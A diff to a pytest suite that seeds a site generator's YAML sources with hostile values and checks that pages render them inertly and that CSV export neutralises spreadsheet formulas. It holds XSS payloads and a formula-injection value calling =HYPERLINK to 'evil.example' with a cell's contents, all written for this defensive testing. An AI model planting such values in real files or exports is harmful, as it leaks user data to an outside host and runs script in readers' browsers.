@@ -11,6 +11,8 @@ title, an actor name, a glossary expansion and a source title.
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import re
 from html.parser import HTMLParser
@@ -25,6 +27,7 @@ pytest_plugins = ["tests.browser_support"]
 TAG = "<img src=x onerror=alert(1)>"
 ENTITIES = "&lt;img src=x onerror=alert(1)&gt;"
 COMMENT = "<!--<script>"
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1, "Soviet arms embargo")'
 
 #: (file, the line as in tests/fixtures/knowledge or sources/catalog.yml, its hostile version)
 MUTATIONS = [
@@ -44,6 +47,7 @@ MUTATIONS = [
      f"    expansion: 'United {TAG} Nations'\n    expansion_note: isis-expansion"),
     ("sources/notes.yml", "    text: The Il-38 first flew in 1961, so it cannot have been among aircraft sent in 1958.",
      f"    text: 'The Il-38 {TAG} first flew in 1961 {COMMENT}.'"),
+    ("sources/events.yml", "    title: Soviet arms embargo", f"    title: '{FORMULA}'"),
 ]
 
 
@@ -113,10 +117,11 @@ def test_no_value_becomes_markup_on_any_page(hostile_site):
                     if any(name.startswith("on") for name in attrs) or (tag == "img" and attrs.get("src") == "x")]
         assert not injected, f"{page.relative_to(hostile_site)}: injected element(s) {injected[:3]}"
         for attrs, content in parsed.scripts:
-            assert "alert(1)" not in content or attrs.get("type") == "application/ld+json", \
+            data = attrs.get("type") in ("application/ld+json", "application/json")   # data, never run
+            assert "alert(1)" not in content or data, \
                 f"{page.relative_to(hostile_site)}: a script runs a value: {content[:200]!r}"
-            if attrs.get("type") == "application/ld+json":
-                assert "<" not in content, f"{page.relative_to(hostile_site)}: '<' inside JSON-LD"
+            if data:
+                assert "<" not in content, f"{page.relative_to(hostile_site)}: '<' inside a JSON script"
                 json.loads(content)
     assert seen_payload >= 5, "the payloads did not reach the pages: the test proves nothing"
 
@@ -168,3 +173,15 @@ def test_no_script_runs_in_chromium(hostile_site, browser):
         server.server_close()
         thread.join(timeout=5)
     assert not dialogs, dialogs
+
+
+@pytest.mark.slow
+def test_csv_export_neutralizes_formulas(hostile_site):
+    """A cell starting with = + - @ is a formula to a spreadsheet: the
+    export prefixes it with an apostrophe (shown, not evaluated)."""
+    rows = list(csv.DictReader(io.StringIO((hostile_site / "data" / "events.csv").read_text("utf-8"))))
+    titles = [row["title"] for row in rows]
+    assert "'" + FORMULA in titles
+    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row.values())
+    events = json.loads((hostile_site / "data" / "events.json").read_text("utf-8"))
+    assert FORMULA in [event["title"] for event in events], "the JSON export keeps the title as typed"
